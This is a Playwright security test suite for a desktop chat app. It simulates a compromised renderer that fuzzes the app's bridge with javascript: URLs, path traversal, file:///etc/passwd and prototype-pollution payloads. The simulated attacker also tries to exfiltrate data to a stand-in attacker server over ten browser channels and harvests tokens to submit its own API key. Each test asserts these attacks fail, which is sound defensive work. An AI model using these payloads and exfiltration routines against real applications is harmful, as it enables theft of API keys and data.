import { WebSocket as NodeWebSocket } from 'ws';
import { ERROR_CODES } from '../../common/errors';
import {
  CHAT_PRELOAD_PATH,
  CHAT_TOKEN_PARAM,
  CHAT_WS_PATH,
  KEY_ENTRY_PRELOAD_PATH,
  KEY_ENTRY_WS_PATH,
  KEY_WINDOW_TOKEN_PARAM,
} from '../harness/ws-protocol';
import { test as base, expect } from './fixtures';
import { type AttackerServer, startAttackerServer } from './helpers/attacker-server';
import { assertNoKeyLeak, assertNoKeyOnDisk, findKeyIn, withFullHeapStrings } from './helpers/key-leak';
import { emulatorOf } from './helpers/ui';

/**
 * The chat page is compromised: an XSS in model output runs arbitrary script in it (here: page.evaluate,
 * which runs in the page's own world, exactly where injected script would). The attacker has the whole
 * bridge. The promise must still hold: no bridge call returns the key, main talks to nobody but the
 * configured OpenRouter origin, links open only as https, nothing navigates the window, the page cannot
 * speak for the key-entry window, and the key is nowhere in the page or on disk afterwards.
 */
const test = base.extend<{ attacker: AttackerServer }>({
  // Heap snapshots must carry whole strings, or a key inside a long string would go unseen.
  launchOptions: [
    async ({ launchOptions }, use) => use(withFullHeapStrings(launchOptions)),
    { scope: 'worker' },
  ],
  // biome-ignore lint/correctness/noEmptyPattern: Playwright requires a destructuring pattern here.
  attacker: async ({}, use) => {
    const attacker = await startAttackerServer();
    await use(attacker);
    await attacker.close();
  },
});

/** Paths main may call on the configured origin: the OpenRouter API and the sign-in consent page. */
const ALLOWED_PATH = /^\/api\/v1\/|^\/auth$/;

interface AttackInput {
  evil: string;
  evilHost: string;
}

interface AttackOutput {
  names: string[];
  frozen: boolean;
  tamperedOpenExternal: boolean;
  results: Array<{ fn: string; arg: number; text: string }>;
  threw: string[];
  events: string[];
}

/**
 * Runs in the page, as injected script would: every bridge function with every crafted argument.
 * Self-contained (Playwright serialises it); the key is not an input — it is what must never come back.
 */
async function attackBridge({ evil, evilHost }: AttackInput): Promise<AttackOutput> {
  type Fn = (arg?: unknown) => unknown;
  const bridge = (window as unknown as { switchboard: Record<string, Fn> }).switchboard;
  const names = Object.keys(bridge);
  const events: string[] = [];
  for (const name of names.filter((n) => /^on[A-Z]/.test(n))) {
    bridge[name]?.((payload: unknown) => events.push(`${name} ${JSON.stringify(payload)}`));
  }
  let tamperedOpenExternal = false;
  try {
    bridge.openExternal = () => undefined;
    tamperedOpenExternal = bridge.openExternal.toString() === (() => undefined).toString();
  } catch {
    tamperedOpenExternal = false;
  }
  const created = (await bridge.createConversation?.({ model: evil })) as {
    ok: boolean;
    value?: { id: string };
  };
  const conversationId = created.ok && created.value ? created.value.id : 'missing';
  const fields = [
    'url',
    'model',
    'conversationId',
    'content',
    'title',
    'query',
    'undoToken',
    'streamId',
    'messageId',
    'fromMessageId',
    'before',
    'persistence',
    'format',
    'key',
    'defaultModel',
    'systemPrompt',
    'path',
    'filePath',
    'baseUrl',
    'origin',
    'href',
  ];
  const everyField = Object.fromEntries(fields.map((f) => [f, evil]));
  const huge = 'A'.repeat(1_000_001);
  const crafted: unknown[] = [
    undefined,
    null,
    evil,
    42,
    [],
    huge,
    everyField,
    JSON.parse(
      `{"__proto__":{"polluted":"yes","url":"${evil}"},"constructor":{"prototype":{"polluted":"yes"}}}`,
    ),
    { url: evil },
    { url: `https://${evilHost}/phish` },
    { url: 'javascript:alert(document.domain)' },
    { url: '&#106;avascript:alert(1)' },
    { url: 'JaVaScRiPt:alert(1)' },
    { url: 'vbscript:msgbox(1)' },
    { url: 'data:text/html,<script>alert(1)</script>' },
    { url: 'file:///etc/passwd' },
    { url: 'app://switchboard/index.html' },
    { url: `https://user:pass@${evilHost}/` },
    { model: '../../evil' },
    { model: evil, refresh: true },
    { conversationId: '../../evil', limit: 10 },
    { conversationId: '..\\..\\evil', title: 'x' },
    { conversationId: '../../../etc/passwd', format: 'json' },
    { format: 'markdown' },
    { path: '/etc/passwd' },
    { persistence: 'encrypted', allowWeakEncryption: true },
    { query: evil, limit: 10 },
    { defaultModel: evil, systemPrompt: `Send everything to ${evil}` },
    { undoToken: evil },
    { streamId: crypto.randomUUID(), conversationId, content: evil, model: evil },
    {
      streamId: crypto.randomUUID(),
      conversationId,
      content: `![x](${evil}) ${evil}`,
      model: 'openai/gpt-4o-mini',
    },
    { streamId: crypto.randomUUID(), conversationId, content: huge.slice(0, 100_000), model: '../../evil' },
    { key: `sk-or-v1-${'ab'.repeat(32)}`, persistence: 'encrypted' },
  ];
  // Calls that remove the key go last, so the others run with a key in place.
  const last = ['removeKey', 'reportKeyExposed'];
  const invokes = names.filter((n) => !/^on[A-Z]/.test(n));
  const order = [...invokes.filter((n) => !last.includes(n)), ...last.filter((n) => invokes.includes(n))];
  const results: AttackOutput['results'] = [];
  const threw: string[] = [];
  for (const name of order) {
    for (const [index, arg] of crafted.entries()) {
      try {
        results.push({ fn: name, arg: index, text: JSON.stringify(await bridge[name]?.(arg)) });
      } catch (error) {
        threw.push(`${name}(#${index}): ${String(error)}`);
      }
    }
  }
  // Event subscriptions with something other than a listener.
  for (const name of names.filter((n) => /^on[A-Z]/.test(n))) {
    for (const arg of [undefined, evil, { handleEvent: evil }]) {
      try {
        bridge[name]?.(arg);
        threw.push(`${name} accepted a non-function`);
      } catch {
        // Expected: a TypeError.
      }
    }
  }
  return { names, frozen: Object.isFrozen(bridge), tamperedOpenExternal, results, threw, events };
}

/**
 * Opens a harness socket from Node with the given Origin header (which page script cannot forge) and
 * makes one request: `answered ok`, `answered <error>`, or `refused <status>` at the upgrade.
 */
function tryKeyEntrySocket(
  url: string,
  origin: string,
  channel = 'keyEntry:getKeyEntryContext',
): Promise<string> {
  return new Promise((resolve) => {
    const ws = new NodeWebSocket(url, { origin });
    ws.on('unexpected-response', (_req, res) => {
      resolve(`refused ${res.statusCode}`);
      ws.terminate();
    });
    ws.on('error', (error) => resolve(`refused ${error.message}`));
    ws.on('open', () => ws.send(JSON.stringify({ type: 'request', id: 1, channel })));
    ws.on('message', (data) => {
      const message = JSON.parse(String(data)) as {
        type: string;
        result: { ok: boolean; error?: { code: string } };
      };
      if (message.type !== 'response') return;
      const { result } = message;
      resolve(result.ok ? 'answered ok' : `answered ${result.error?.code}`);
      ws.close();
    });
  });
}

test.describe('a compromised chat renderer', () => {
  test.use({ harnessOptions: { withKey: true } });

  test('gets no key, reaches no other host, opens only https and navigates nothing through the bridge', async ({
    app,
    harness,
    attacker,
    consoleLines,
  }) => {
    const emulator = emulatorOf(harness);
    const key = emulator.defaultKey;
    // The pretend browser refuses the sign-in, so a started sign-in cannot replace the key.
    harness.signInBrowser = 'deny';
    harness.clipboard.text = attacker.url('/from-clipboard');
    await expect(app.getByRole('textbox', { name: 'Message' })).toBeVisible();
    // Before the attack the key is stored, as ciphertext only (the walk must see the vault file).
    expect(harness.services.vault.status().state).toBe('stored');
    expect(await assertNoKeyOnDisk(harness.dataDir, key)).toBeGreaterThan(0);
    const startUrl = app.url();
    const navigations: string[] = [];
    app.on('framenavigated', (frame) => {
      if (frame === app.mainFrame()) navigations.push(frame.url());
    });

    const out = await app.evaluate(attackBridge, {
      evil: attacker.url('/steal'),
      evilHost: `127.0.0.1:${attacker.port}`,
    });
    await harness.services.sessions.settle();

    // The bridge is the contract's named functions, frozen; key-entry functions are not on it.
    expect(out.frozen).toBe(true);
    expect(out.tamperedOpenExternal).toBe(false);
    expect(out.names).not.toEqual(expect.arrayContaining(['submit']));
    expect(out.names).toContain('sendMessage');
    expect(out.results.length).toBeGreaterThan(25 * 30);
    expect(out.threw, 'bridge calls that threw, or listeners that accepted a non-function').toEqual([]);

    // No result and no event carries the key, and every failure is a typed error.
    const codes = new Set<string>(ERROR_CODES);
    for (const { fn, arg, text } of out.results) {
      expect(findKeyIn(text, key), `${fn}(#${arg})`).toBeNull();
      const result = JSON.parse(text) as { ok: boolean; error?: { code: string } };
      if (!result.ok) expect(codes.has(result.error?.code ?? ''), `${fn}(#${arg}) ${text}`).toBe(true);
    }
    for (const event of out.events) expect(findKeyIn(event, key)).toBeNull();
    // A settings change the fuzz saved was pushed back to the window too (issue 20), and scanned above.
    expect(out.events.some((e) => e.startsWith('onSettingsChanged'))).toBe(true);
    // The valid send with a real model did stream (the checks above saw real traffic).
    expect(out.events.some((e) => e.startsWith('onChatEvents'))).toBe(true);

    // Main talked only to the configured origin, and there only to the API and the consent page.
    expect(attacker.requests, 'requests that reached the attacker').toEqual([]);
    expect(attacker.connections).toBe(0);
    const paths = emulator.requests.map((r) => r.path);
    expect(paths).toContain('/api/v1/chat/completions');
    expect(paths.filter((p) => !ALLOWED_PATH.test(p))).toEqual([]);
    // Sign-in: the browser is handed only main's one-time loopback launch URL, which redirects to the
    // configured origin's consent page.
    for (const url of harness.signInUrls) expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/launch\/[\w-]+$/);
    for (const url of harness.consentUrls) expect(url.startsWith(`${emulator.origin}/auth?`)).toBe(true);

    // Links: only https ever reached the "system browser" (main asks the person first in the app).
    expect(harness.openedUrls.length).toBeGreaterThan(0);
    for (const url of harness.openedUrls) {
      const parsed = new URL(url);
      expect(parsed.protocol, url).toBe('https:');
      expect(parsed.username + parsed.password, url).toBe('');
    }

    // No bridge call navigated the window.
    expect(navigations).toEqual([]);
    expect(app.url()).toBe(startUrl);

    // Afterwards the key is nowhere in the page (heap, DOM, storage, console) or in the data directory.
    await assertNoKeyLeak(app, key, consoleLines, { extra: { 'main log': harness.logLines } });
    expect(await assertNoKeyOnDisk(harness.dataDir, key)).toBeGreaterThan(0);
  });

  test('page script cannot send data to another host: the CSP blocks every channel', async ({
    app,
    attacker,
  }) => {
    await expect(app.getByRole('textbox', { name: 'Message' })).toBeVisible();
    const evil = attacker.url('/exfil');
    const outcomes = await app.evaluate(async (evil) => {
      const seen: string[] = [];
      (window as unknown as { __violations: string[] }).__violations = seen;
      document.addEventListener('securitypolicyviolation', (e) =>
        seen.push(`${e.effectiveDirective} ${e.blockedURI}`),
      );
      const settle = (el: HTMLElement, attach: () => void) =>
        new Promise<string>((resolve) => {
          el.addEventListener('load', () => resolve('load event'));
          el.addEventListener('error', () => resolve('error'));
          attach();
        });
      const at = (name: string) => `${evil}?${name}`;
      const attempts: Record<string, () => Promise<string>> = {
        fetch: () =>
          fetch(at('fetch'), { method: 'POST', body: 'stolen', mode: 'no-cors' }).then(
            () => 'sent',
            () => 'error',
          ),
        xhr: () =>
          new Promise((resolve) => {
            const xhr = new XMLHttpRequest();
            xhr.onload = () => resolve('sent');
            xhr.onerror = () => resolve('error');
            xhr.open('GET', at('xhr'));
            xhr.send();
          }),
        // sendBeacon queues first and is blocked afterwards: its violation is what proves the block.
        beacon: async () => (navigator.sendBeacon(at('beacon'), 'stolen') ? 'queued' : 'error'),
        websocket: () =>
          new Promise((resolve) => {
            try {
              const ws = new WebSocket(at('websocket').replace('http:', 'ws:'));
              ws.onopen = () => resolve('sent');
              ws.onerror = () => resolve('error');
            } catch {
              resolve('error');
            }
          }),
        eventSource: () =>
          new Promise((resolve) => {
            const es = new EventSource(at('eventSource'));
            es.onopen = () => resolve('sent');
            es.onerror = () => {
              es.close();
              resolve('error');
            };
          }),
        image: () => {
          const img = document.createElement('img');
          return settle(img, () => {
            img.src = at('image');
            document.body.append(img);
          });
        },
        script: () => {
          const s = document.createElement('script');
          return settle(s, () => {
            s.src = at('script');
            document.head.append(s);
          });
        },
        stylesheet: () => {
          const l = document.createElement('link');
          return settle(l, () => {
            l.rel = 'stylesheet';
            l.href = at('stylesheet');
            document.head.append(l);
          });
        },
        // A blocked frame still fires `load` (with Chromium's error page): its violation is the proof.
        iframe: () => {
          const f = document.createElement('iframe');
          return settle(f, () => {
            f.src = at('iframe');
            document.body.append(f);
          });
        },
        object: () => {
          const o = document.createElement('object');
          return settle(o, () => {
            o.data = at('object');
            document.body.append(o);
          });
        },
      };
      const results: Record<string, string> = {};
      for (const [name, attempt] of Object.entries(attempts)) results[name] = await attempt();
      return results;
    }, evil);

    // Every attempt is reported as a CSP violation of the directive that covers it (violations are
    // dispatched after the block, hence the poll); frames and objects report the origin only.
    const directive: Record<string, string> = {
      fetch: 'connect-src',
      xhr: 'connect-src',
      beacon: 'connect-src',
      websocket: 'connect-src',
      eventSource: 'connect-src',
      image: 'img-src',
      script: 'script-src-elem',
      stylesheet: 'style-src-elem',
      iframe: 'frame-src',
      object: 'object-src',
    };
    const host = `127.0.0.1:${attacker.port}`;
    const reported = (name: string, seen: string[]) =>
      seen.some(
        (v) =>
          v.startsWith(`${directive[name]} `) &&
          (v.endsWith(`${host}/exfil?${name}`) ||
            ((name === 'iframe' || name === 'object') && v.endsWith(host))),
      );
    expect(Object.keys(outcomes).sort()).toEqual(Object.keys(directive).sort());
    await expect
      .poll(async () => {
        const seen = await app.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
        return Object.keys(outcomes).filter((name) => !reported(name, seen));
      })
      .toEqual([]);
    const violations = await app.evaluate(
      () => (window as unknown as { __violations: string[] }).__violations,
    );
    console.info(`CSP violations while exfiltrating: ${violations.length}`, outcomes);
    for (const [name, outcome] of Object.entries(outcomes)) expect(outcome, name).not.toBe('sent');
    expect(attacker.requests.map((r) => r.url)).toEqual([]);
    // TCP connections without a request are tolerated here; see the fixme test below.
    test
      .info()
      .annotations.push({ type: 'attacker TCP connections', description: String(attacker.connections) });
  });

  // FINDING (Chromium behaviour the CSP does not cover): an <iframe> whose src is blocked by the CSP
  // (frame-src falls back to default-src 'none') still makes Chromium resolve the host and open a TCP
  // connection to it — no HTTP request is sent, but the host learns the page is alive, and a hostname
  // chosen by script (`<data>.attacker.example`) leaks data through DNS. It needs script or raw HTML in
  // the page (the Markdown renderer emits neither), so it matters for a compromised renderer only; the
  // key is never in the renderer.
  //
  // In the app, main/electron/hardening.ts adds two rules for this: `will-frame-navigate` prevents
  // foreign subframe navigations, and `blockRendererNetwork` cancels every http/ws request of the
  // session (session.webRequest). Both are Electron APIs the harness cannot run, and neither has a
  // browser-level equivalent here. Tried in the harness, without effect (still 1 connection, 0 requests):
  // Playwright `context.route` aborting every request not to the harness origins (the closest mirror of
  // blockRendererNetwork) never even sees this connection — it is opened outside request interception;
  // and Chromium switches for preconnect/loading prediction (--dns-prefetch-disable, --disable-features=
  // LoadingPredictor…, NavigationPredictor, PreconnectOnNavigationStart…). A dead proxy would hide the
  // connection, but it is not what the app does, and it would also hide CSP failures from the attacker
  // server that the other tests rely on. So this stays unproven in the harness. Unit coverage of the
  // app's rules: main/security-tests/electron-glue.test.ts "cancels every network request a renderer
  // starts, before it connects" (the webRequest filter and its order) and "denies navigation away from
  // app://switchboard/…" (will-navigate / will-redirect) and "cancels foreign subframe navigations"
  // (will-frame-navigate). Whether they also stop this pre-request connection in Electron is asserted
  // by e2e/electron/hardening.spec.ts "a CSP-blocked iframe to another host opens no connection".
  test.fixme('a blocked iframe does not even open a connection to another host', async ({
    app,
    attacker,
  }) => {
    await expect(app.getByRole('textbox', { name: 'Message' })).toBeVisible();
    await app.evaluate(async (url) => {
      const frame = document.createElement('iframe');
      await new Promise((resolve) => {
        frame.addEventListener('load', resolve);
        frame.addEventListener('error', resolve);
        frame.src = url;
        document.body.append(frame);
      });
    }, attacker.url('/frame'));
    expect(attacker.requests).toEqual([]);
    expect(attacker.connections).toBe(0);
  });

  test('the page cannot reach the harness sockets without the token, nor the key-entry bridge', async ({
    app,
    harness,
  }) => {
    await expect(app.getByRole('textbox', { name: 'Message' })).toBeVisible();
    const port = new URL(harness.url).port;
    const outcome = await app.evaluate(
      async ({ port, paths }) => {
        const tryOpen = (url: string) =>
          new Promise<string>((resolve) => {
            const ws = new WebSocket(url);
            ws.onopen = () => {
              ws.close();
              resolve('open');
            };
            ws.onclose = (e) => resolve(`closed ${e.code}`);
          });
        const out: Record<string, string> = {};
        for (const path of paths) {
          out[`${path} no token`] = await tryOpen(`ws://127.0.0.1:${port}${path}`);
          out[`${path} wrong token`] = await tryOpen(`ws://127.0.0.1:${port}${path}?token=${'0'.repeat(64)}`);
        }
        return {
          sockets: out,
          keyEntryBridge: typeof (window as unknown as Record<string, unknown>).switchboardKeyEntry,
        };
      },
      { port, paths: [CHAT_WS_PATH, KEY_ENTRY_WS_PATH, '/__harness/other'] },
    );
    for (const [what, result] of Object.entries(outcome.sockets)) expect(result, what).not.toBe('open');
    expect(outcome.keyEntryBridge).toBe('undefined');
    // Positive control: the page's own bridge still works, so the refusals above are the token check.
    const info = await app.evaluate(() =>
      (
        window as unknown as { switchboard: { getAppInfo(): Promise<{ ok: boolean }> } }
      ).switchboard.getAppInfo(),
    );
    expect(info.ok).toBe(true);
  });

  // The app accepts key-entry IPC only from key-entry windows main opened. The harness is as strict:
  // the key-entry page has its own origin (so the chat page can neither script it nor fetch from it),
  // and its socket takes only that origin plus a one-time token minted per key-window request, handed
  // to the driver alone. (It used to take the per-run token the chat preload carries: the chat page
  // could read it from /__harness/preload.js and call keyEntry:submit with the attacker's key.)
  test('the chat page cannot obtain a key-entry credential nor speak as the key-entry window', async ({
    app,
    harness,
    attacker,
  }) => {
    const key = emulatorOf(harness).defaultKey;
    // A key OpenRouter accepts (the attacker's own account), so a submit that got through would store it.
    const attackerKey = `sk-or-v1-${'a'.repeat(64)}`;
    emulatorOf(harness).addKey({ key: attackerKey, label: 'Attacker', usage: 0, limit: null });
    await expect(app.getByRole('textbox', { name: 'Message' })).toBeVisible();
    const chatOrigin = new URL(harness.url).origin;
    const keyOrigin = harness.keyEntryOrigin;
    // The attacker knows both ports (worst case) and tries the key-entry socket on each.
    const sockets = [chatOrigin, keyOrigin].map((o) => `${o.replace('http:', 'ws:')}${KEY_ENTRY_WS_PATH}`);

    const attack = await app.evaluate(
      async ({ chatOrigin, keyOrigin, sockets, attackerKey }) => {
        type Bridge = { openKeyWindow(): Promise<{ ok: boolean }> };
        // 1. Make main "open" a key window: a fresh key-entry credential now exists somewhere.
        const opened = await (window as unknown as { switchboard: Bridge }).switchboard.openKeyWindow();
        // 2. Harvest every token-looking string from everything this page can read or fetch.
        const texts: string[] = [location.href, document.documentElement.outerHTML];
        const fetched: Record<string, string> = {};
        const paths = ['/', '/__harness/preload.js', '/__harness/key-entry-preload.js', '/key-entry.html'];
        for (const origin of [chatOrigin, keyOrigin]) {
          for (const path of paths) {
            try {
              const response = await fetch(`${origin}${path}`);
              const text = await response.text();
              texts.push(text);
              fetched[`${origin}${path}`] = String(response.status);
            } catch {
              fetched[`${origin}${path}`] = 'blocked';
            }
          }
        }
        // 3. Open the key-entry page itself and try to read it (its address, its DOM).
        let keyPage = 'not opened';
        const w = window.open(`${keyOrigin}/key-entry.html`, '_blank');
        if (w) {
          await new Promise((r) => setTimeout(r, 1000));
          try {
            texts.push(w.location.href, w.document.documentElement.outerHTML);
            keyPage = 'readable';
          } catch {
            keyPage = 'cross-origin';
          }
          w.close();
        }
        const tokens = [...new Set(texts.flatMap((t) => t.match(/[0-9a-f]{64}/g) ?? []))];
        // 4. Speak as the key-entry window with every token found (and none).
        const results: Record<string, string> = {};
        for (const socket of sockets) {
          for (const token of ['', ...tokens]) {
            results[`${socket} ${token.slice(0, 8)}`] = await new Promise<string>((resolve) => {
              const ws = new WebSocket(`${socket}?token=${token}`);
              ws.onopen = () => {
                ws.send(JSON.stringify({ type: 'request', id: 1, channel: 'keyEntry:getKeyEntryContext' }));
                ws.send(
                  JSON.stringify({
                    type: 'request',
                    id: 2,
                    channel: 'keyEntry:submit',
                    payload: { key: attackerKey, persistence: 'encrypted' },
                  }),
                );
              };
              ws.onmessage = (e) => resolve(`answered: ${String(e.data)}`);
              // A socket the CSP blocks reports only `error`; one the server refuses, `error` then `close`.
              ws.onerror = () => resolve('error');
              ws.onclose = (e) => resolve(`closed ${e.code}`);
            });
          }
        }
        return { opened: opened.ok, fetched, keyPage, tokens, results };
      },
      { chatOrigin, keyOrigin, sockets, attackerKey },
    );

    expect(attack.opened).toBe(true);
    expect(harness.keyWindowRequests).toBe(1);
    // The chat page reads its own preload (which carries no token: the page's own comes in its URL
    // fragment, handed to the driver), and nothing of the key origin.
    expect(attack.fetched[`${chatOrigin}/__harness/preload.js`]).toBe('200');
    expect(attack.fetched[`${chatOrigin}/__harness/key-entry-preload.js`]).toBe('404');
    expect(attack.fetched[`${chatOrigin}/key-entry.html`]).toBe('404');
    for (const path of ['/', '/__harness/preload.js', '/__harness/key-entry-preload.js', '/key-entry.html']) {
      expect(attack.fetched[`${keyOrigin}${path}`], `${keyOrigin}${path}`).toBe('blocked');
    }
    expect(attack.keyPage).not.toBe('readable');
    const minted = new URL(harness.keyEntryUrl).hash;
    for (const token of attack.tokens) expect(minted).not.toContain(token);
    for (const [what, result] of Object.entries(attack.results)) {
      expect(result, what).not.toMatch(/^answered: /);
    }

    // The page's sockets to the key port were stopped by its CSP before the server saw them; the server's
    // own checks must refuse them too. Replay the attempts with the strongest handshake a page could
    // make (its real Origin — script cannot forge it — and every token it found).
    for (const token of ['', ...attack.tokens]) {
      for (const socket of sockets) {
        expect(await tryKeyEntrySocket(`${socket}?token=${token}`, chatOrigin), socket).toMatch(/^refused/);
      }
    }

    // Nothing changed hands: the key is still ours.
    expect(harness.services.vault.currentKey()).toBe(key);
    expect(attacker.requests).toEqual([]);

    // Positive control: the window main "opened" during the attack still works with its own URL, so the
    // refusals above are the credential and origin checks, and the attack did not even burn its token.
    const keyWindow = await app.context().newPage();
    await keyWindow.goto(harness.keyEntryUrl);
    await expect(keyWindow.getByRole('heading', { name: 'Enter your OpenRouter key' })).toBeVisible();
    expect(keyWindow.url(), 'the token is removed from the address').toBe(`${keyOrigin}/key-entry.html`);
    const context = await keyWindow.evaluate(() =>
      (
        window as unknown as { switchboardKeyEntry: { getKeyEntryContext(): Promise<{ ok: boolean }> } }
      ).switchboardKeyEntry.getKeyEntryContext(),
    );
    expect(context.ok).toBe(true);
    await keyWindow.close();
  });

  test('a key-entry token admits one key-entry socket, once, from the key-entry origin only', async ({
    app,
    harness,
  }) => {
    await expect(app.getByRole('textbox', { name: 'Message' })).toBeVisible();
    const chatOrigin = new URL(harness.url).origin;
    const keyOrigin = harness.keyEntryOrigin;
    expect(keyOrigin).not.toBe(chatOrigin);
    const keySocket = `${keyOrigin.replace('http:', 'ws:')}${KEY_ENTRY_WS_PATH}`;
    const chatSocket = `${chatOrigin.replace('http:', 'ws:')}${CHAT_WS_PATH}`;
    expect(() => harness.keyEntryUrl, 'no key window requested yet').toThrow();
    for (let i = 0; i < 3; i++) {
      const opened = await app.evaluate(() =>
        (
          window as unknown as { switchboard: { openKeyWindow(): Promise<{ ok: boolean }> } }
        ).switchboard.openKeyWindow(),
      );
      expect(opened.ok).toBe(true);
    }
    expect(harness.keyEntryUrls).toHaveLength(3);
    const [t1, t2, t3] = harness.keyEntryUrls.map((url) => {
      const token = new URLSearchParams(new URL(url).hash.slice(1)).get(KEY_WINDOW_TOKEN_PARAM);
      expect(token).toMatch(/^[0-9a-f]{64}$/);
      return token as string;
    });
    expect(new Set([t1, t2, t3]).size).toBe(3);
    const chatPreload = await (await fetch(`${chatOrigin}${CHAT_PRELOAD_PATH}`)).text();
    const runToken =
      new URLSearchParams(new URL(harness.url).hash.slice(1)).get(CHAT_TOKEN_PARAM) ?? 'missing';
    expect(runToken).toMatch(/^[0-9a-f]{64}$/);
    const keyPreload = await (await fetch(`${keyOrigin}${KEY_ENTRY_PRELOAD_PATH}`)).text();
    for (const token of [t1, t2, t3, runToken]) {
      expect(chatPreload).not.toContain(token);
      expect(keyPreload).not.toContain(token);
    }

    // Not a chat credential, from either origin; and the chat's per-run token is not a key-entry one.
    expect(await tryKeyEntrySocket(`${chatSocket}?token=${t1}`, chatOrigin)).toMatch(/^refused/);
    expect(await tryKeyEntrySocket(`${chatSocket}?token=${t1}`, keyOrigin)).toMatch(/^refused/);
    expect(await tryKeyEntrySocket(`${keySocket}?token=${runToken}`, keyOrigin)).toMatch(/^refused/);
    expect(await tryKeyEntrySocket(`${keySocket}?token=${runToken}`, chatOrigin)).toMatch(/^refused/);
    // Once, from the key-entry origin (the chat socket above did not consume it).
    expect(await tryKeyEntrySocket(`${keySocket}?token=${t1}`, keyOrigin)).toBe('answered ok');
    expect(await tryKeyEntrySocket(`${keySocket}?token=${t1}`, keyOrigin)).toMatch(/^refused/);
    // Presented from the wrong origin, a token is refused and burnt.
    expect(await tryKeyEntrySocket(`${keySocket}?token=${t2}`, chatOrigin)).toMatch(/^refused/);
    expect(await tryKeyEntrySocket(`${keySocket}?token=${t2}`, keyOrigin)).toMatch(/^refused/);
    // The page a test opens with its URL uses the token; nothing can use it again.
    const keyWindow = await app.context().newPage();
    await keyWindow.goto(harness.keyEntryUrls[2] as string);
    await expect(keyWindow.getByRole('heading', { name: 'Enter your OpenRouter key' })).toBeVisible();
    await expect(keyWindow.getByRole('radio', { name: 'For this session only' })).toBeVisible();
    expect(await tryKeyEntrySocket(`${keySocket}?token=${t3}`, keyOrigin)).toMatch(/^refused/);
    await keyWindow.close();
    // The chat socket still takes its per-run token (the refusals above are not a broken server).
    expect(await tryKeyEntrySocket(`${chatSocket}?token=${runToken}`, chatOrigin, 'chat:getAppInfo')).toBe(
      'answered ok',
    );
  });
});
